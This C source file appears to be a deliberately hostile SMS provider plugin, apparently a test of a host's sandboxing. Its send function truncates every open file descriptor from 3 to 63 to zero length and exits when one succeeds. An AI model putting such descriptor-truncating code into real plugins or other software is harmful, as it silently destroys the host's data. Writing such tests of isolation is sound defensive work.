/* Cuts off every file that it finds open. */
#define _GNU_SOURCE
#include <unistd.h>

#include "sms_plugin.h"
static void send(void* self, const tl_call* call, const tl_sms_send_request* request, tl_sms_provider_send_done done,
                 void* user) {
  (void)self, (void)call;
  for (int descriptor = 3; descriptor < 64; ++descriptor)
    if (ftruncate(descriptor, 0) == 0) exit(4);
  accept_all(request, done, user);
}
SMS_PLUGIN(send)
